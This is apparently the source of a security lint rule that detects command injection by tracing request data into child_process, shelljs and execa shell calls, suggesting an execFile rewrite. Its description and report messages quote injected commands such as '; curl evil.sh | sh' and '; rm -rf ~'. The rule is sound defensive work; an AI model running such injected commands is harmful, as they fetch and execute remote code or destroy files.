import * as ts from 'typescript';
import type { OffsetEdit, OffsetFix, Rule } from '../../rule';
import type { Facts } from '../../facts/facts';
import type { LibraryRef } from '../../facts/libraries';
import { calleeName, objectProperty, unwrap } from '../../facts/syntax';
import { addNamedImport } from '../../fixers/add-import';
import { splitCommandLine } from '../../fixers/split-command-line';

/** child_process functions that always run their command through a shell. */
const shellRunners = new Set(['exec', 'execSync']);
/** child_process functions that run a program directly unless `shell: true` is passed. */
const directRunners = new Set(['spawn', 'spawnSync', 'execFile', 'execFileSync']);
/** execa: the command-string forms (parsed into arguments, and given to a shell with `shell: true`). */
const execaCommands = new Set(['execaCommand', 'execaCommandSync', 'command', 'commandSync']);
const callNames = new Set([...shellRunners, ...directRunners, ...execaCommands, 'execa', 'execaSync']);
const childProcessNames = /^(child_process|childProcess|cp)$/;
/** Programs that run their `-c` / `/c` argument as a command line. */
const shells = /^(\/(usr\/)?bin\/)?(sh|bash|zsh|dash|ash|cmd(\.exe)?|powershell(\.exe)?|pwsh)$/;

interface Runner {
  kind: 'shell' | 'direct' | 'execa' | 'execa-command';
  /** The function's own name in child_process, when the call can be rewritten to its execFile form. */
  rewritable?: { name: string; ref?: LibraryRef; callee: ts.Expression };
}

/** What a call runs commands with: child_process (directly or promisified), shelljs, or execa. */
function runnerOf(call: ts.CallExpression, facts: Facts, importsRunner: boolean): Runner | undefined {
  const name = calleeName(call);
  if (name === undefined) return undefined;
  if (!callNames.has(name)) return importsRunner && facts.importsLibrary('child_process') ? promisifiedRunner(call, facts) : undefined;
  const callee = unwrap(call.expression);
  // Without an import, only a snippet's unresolved `child_process.exec` can be one (and `/re/.exec` is common).
  if (!importsRunner) return unresolvedModule(callee, facts) === 'child_process' && shellRunners.has(name) ? { kind: 'shell' } : undefined;
  const ref = facts.libraryOf(callee);
  const library = ref?.library ?? unresolvedModule(callee, facts);
  if (library === 'child_process') {
    const kind = shellRunners.has(name) ? 'shell' : directRunners.has(name) ? 'direct' : undefined;
    if (!kind) return undefined;
    return { kind, rewritable: kind === 'shell' ? { name, ref, callee } : undefined };
  }
  if (library === 'shelljs') return name === 'exec' ? { kind: 'shell' } : undefined;
  if (library === 'execa') return execaCommands.has(name) ? { kind: 'execa-command' } : name === 'execa' || name === 'execaSync' ? { kind: 'execa' } : undefined;
  return undefined;
}

/** `const run = util.promisify(exec)` / `promisify(cp.exec)`: the shell runner behind a promisified name. */
function promisifiedRunner(call: ts.CallExpression, facts: Facts): Runner | undefined {
  const callee = unwrap(call.expression);
  if (!ts.isIdentifier(callee)) return undefined;
  const decl = facts.resolve(callee);
  if (!decl || !ts.isVariableDeclaration(decl) || !decl.initializer) return undefined;
  const init = unwrap(decl.initializer);
  if (!ts.isCallExpression(init) || calleeName(init) !== 'promisify' || !init.arguments[0]) return undefined;
  const inner = unwrap(init.arguments[0]);
  const name = ts.isIdentifier(inner) ? inner.text : ts.isPropertyAccessExpression(inner) ? inner.name.text : undefined;
  const library = facts.libraryOf(inner)?.library ?? unresolvedModule(inner, facts);
  return library === 'child_process' && name !== undefined && shellRunners.has(name) ? { kind: 'shell' } : undefined;
}

/** `child_process.exec` in a snippet whose import is elsewhere. */
function unresolvedModule(callee: ts.Expression, facts: Facts): string | undefined {
  if (!ts.isPropertyAccessExpression(callee) || !ts.isIdentifier(callee.expression)) return undefined;
  const base = callee.expression;
  return childProcessNames.test(base.text) && facts.resolve(base) === undefined ? 'child_process' : undefined;
}

/** `{ shell: true }` (or any shell path) among the call's option objects. */
function usesShell(call: ts.CallExpression, facts: Facts): boolean {
  return call.arguments.some((a) => {
    const e = unwrap(a);
    if (!ts.isObjectLiteralExpression(e)) return false;
    const p = objectProperty(e, 'shell');
    if (!p) return false;
    if (!ts.isPropertyAssignment(p)) return true;
    const v = unwrap(p.initializer);
    return v.kind !== ts.SyntaxKind.FalseKeyword && !(facts.isConstant(v) && ts.isNumericLiteral(v));
  });
}

/** The arguments that reach a shell (or, for execa's command strings, the argument parser). */
function commandArguments(call: ts.CallExpression, runner: Runner, facts: Facts): readonly ts.Expression[] {
  const [command, args] = call.arguments;
  if (!command) return [];
  switch (runner.kind) {
    case 'shell':
    case 'execa-command':
      return [command];
    case 'direct':
    case 'execa': {
      const program = unwrap(command);
      const list = args && ts.isArrayLiteralExpression(unwrap(args)) ? (unwrap(args) as ts.ArrayLiteralExpression).elements : undefined;
      // `spawn('sh', ['-c', line])`: the program is itself a shell.
      if (ts.isStringLiteralLike(program) && shells.test(program.text)) return list ?? [];
      if (!usesShell(call, facts)) return [];
      // With a shell, the arguments are joined into the command line too.
      return list ? [command, ...list] : [command];
    }
  }
}

/** "Run with execFile": `exec(\`ping -c 1 ${host}\`, cb)` → `execFile('ping', ['-c', '1', host], cb)`. */
function execFileFix(call: ts.CallExpression, runner: Runner, facts: Facts): OffsetFix | undefined {
  const target = runner.rewritable;
  const command = call.arguments[0];
  if (!target || !command) return undefined;
  const split = splitCommandLine(command, facts.sourceFile);
  if (!split) return undefined;
  const newName = target.name === 'exec' ? 'execFile' : 'execFileSync';
  const edits: OffsetEdit[] = [];
  const callee = unwrap(target.callee);
  if (ts.isPropertyAccessExpression(callee)) {
    edits.push({ start: callee.name.getStart(), end: callee.name.getEnd(), text: newName });
  } else if (ts.isIdentifier(callee) && target.ref?.exportName === target.name) {
    const imported = addNamedImport(facts, { module: target.ref.module, name: newName });
    if (!imported) return undefined;
    edits.push({ start: callee.getStart(), end: callee.getEnd(), text: imported.name });
    if (imported.edit) edits.push(imported.edit);
  } else {
    return undefined;
  }
  edits.push({ start: command.getStart(), end: command.getEnd(), text: `${split.file}, [${split.args.join(', ')}]` });
  return { title: `Run with ${newName} and an argument array`, safe: false, edits };
}

export const commandInjection: Rule = {
  meta: {
    id: 'command-injection',
    category: 'security',
    defaultSeverity: 'error',
    title: 'Request data in a shell command',
    description:
      'A command line built from request data and run through a shell lets the sender run any program on the server with its privileges (`; curl evil.sh | sh`). Run the program directly with its arguments in an array.',
    fixable: 'suggestion',
    scope: 'declaration',
    sources: ['CWE-78', 'OWASP A03:2021', 'eslint-plugin-security detect-child-process', 'semgrep javascript.lang.security.detect-child-process'],
  },
  create(context) {
    const { facts } = context;
    const importsRunner = (['child_process', 'shelljs', 'execa'] as const).some((l) => facts.importsLibrary(l));
    return {
      CallExpression(call) {
        const runner = runnerOf(call, facts, importsRunner);
        if (!runner) return;
        for (const arg of commandArguments(call, runner, facts)) {
          if (facts.isConstant(arg)) continue;
          const origin = facts.requestOrigin(arg, { sink: 'shell' });
          if (!origin) continue;
          const fix = runner.kind === 'shell' && arg === call.arguments[0] ? execFileFix(call, runner, facts) : undefined;
          const what = runner.kind === 'execa-command'
            ? 'is split into this command\'s arguments: an attacker can add options such as `--output=…`'
            : 'ends up in this command line, which a shell runs: an attacker can append any command (`; rm -rf ~`)';
          context.report({
            at: arg,
            message: `\`${origin.source}\` ${what}. Run the program with execFile or spawn and pass the value as its own argument.`,
            fixes: fix ? [fix] : [],
          });
          return;
        }
      },
    };
  },
};
